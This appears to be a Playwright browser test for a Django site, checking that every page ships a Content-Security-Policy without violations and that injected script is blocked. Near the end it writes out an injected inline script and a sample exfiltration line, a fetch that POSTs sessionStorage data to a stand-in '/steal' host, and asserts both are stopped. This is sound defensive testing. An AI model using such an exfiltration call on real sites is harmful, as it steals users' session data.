"""Chromium under the site's Content-Security-Policy: every page works, and injected script is stopped."""

from __future__ import annotations

from typing import Any
from urllib.parse import urlsplit

import pytest

from tests import test_browser
from tests.test_browser import Site, expect, make_user, sign_in

# The live-page fixtures: Chromium, a seeded daphne worker, a fresh page.
browser, server_env, site, page = (
    test_browser.browser,
    test_browser.server_env,
    test_browser.site,
    test_browser.page,
)

pytestmark = [pytest.mark.slow, pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Every securitypolicyviolation of every document in the context reaches the test, across navigations.
REPORT_VIOLATIONS = """
document.addEventListener("securitypolicyviolation", (event) => {
  window.reportViolation(`${event.effectiveDirective} blocked ${event.blockedURI} on ${location.pathname}`);
});
"""


class Watch:
    """What Chromium said about the pages of one context: policy violations, console errors, CSP headers."""

    def __init__(self, context: Any) -> None:
        self.violations: list[str] = []
        self.errors: list[str] = []
        self.policies: dict[str, str | None] = {}
        context.expose_function("reportViolation", self.record_violation)
        context.add_init_script(REPORT_VIOLATIONS)
        context.on("console", lambda msg: msg.type == "error" and self.errors.append(msg.text))
        context.on("weberror", lambda error: self.errors.append(str(error.error)))
        context.on("response", self.record_policy)

    def record_violation(self, text: str) -> None:
        self.violations.append(text)

    def record_policy(self, response: Any) -> None:
        if response.request.resource_type == "document" and response.status == 200:
            self.policies[urlsplit(response.url).path] = response.headers.get("content-security-policy")


def test_every_page_runs_under_the_policy_without_a_violation(site: Site, page: Any) -> None:
    make_user("cleo", services=("widgets", "notifications", "load"), staff=True)
    watch = Watch(page.context)
    sign_in(page, site, "cleo")
    expect(page.get_by_role("button", name="Allow")).to_be_visible()  # the consent page
    page.get_by_role("button", name="Allow").click()
    expect(page.locator("#connection-state")).to_have_attribute("data-state", "open")
    expect(page.locator("#connection-transport")).to_be_hidden()  # over the websocket, not SSE
    expect(page.locator("#widget-rows tr")).to_have_count(3)
    expect(page.locator("#load-rows tr")).not_to_have_count(0)

    admin = page.context.new_page()  # the live page stays open: its session is listed live
    admin.goto(f"{site.url}/")
    expect(admin.get_by_role("link", name="Open the live page")).to_be_visible()
    admin.goto(f"{site.url}/admin/")
    expect(admin.locator("#streaming-live")).to_be_visible()
    admin.goto(f"{site.url}/admin/streaming/streamsession/?status=open")
    expect(admin.locator("#result_list tbody tr")).to_have_count(1)
    expect(admin.locator("#streaming-live-stamp")).to_contain_text("Live: updated")
    admin.goto(f"{site.url}/admin/streaming/workerprocess/dashboard/")
    expect(admin.locator("#streaming-charts-fleet .uplot canvas")).to_have_count(4, timeout=10_000)

    pages = ["/", "/accounts/login/", "/o/authorize/", "/app/", "/admin/", "/admin/streaming/streamsession/"]
    pages.append("/admin/streaming/workerprocess/dashboard/")
    for path in pages:
        policy = watch.policies.get(path) or ""
        assert "script-src 'self'" in policy and "connect-src 'self'" in policy, (path, policy)
    assert watch.violations == []
    assert watch.errors == []

    # An injected inline script neither runs nor reaches another origin with what it read.
    page.evaluate(
        """() => {
             const script = document.createElement("script");
             script.textContent = "window.injected = sessionStorage.length";
             document.body.append(script);
           }"""
    )
    call_out = "fetch('http://127.0.0.2:9/steal', {method: 'POST', body: sessionStorage.getItem('x')})"
    assert page.evaluate(f"() => {call_out}.then(() => 'sent', () => 'blocked')") == "blocked"
    assert page.evaluate("window.injected") is None
    wait_for_violations(page, watch, 2)
    assert watch.violations == [
        "script-src-elem blocked inline on /app/",
        "connect-src blocked http://127.0.0.2:9/steal on /app/",
    ]


def wait_for_violations(page: Any, watch: Watch, count: int) -> None:
    """The reports come back through the exposed function: let Playwright's loop deliver them."""
    for _ in range(40):
        if len(watch.violations) >= count:
            return
        page.wait_for_timeout(50)
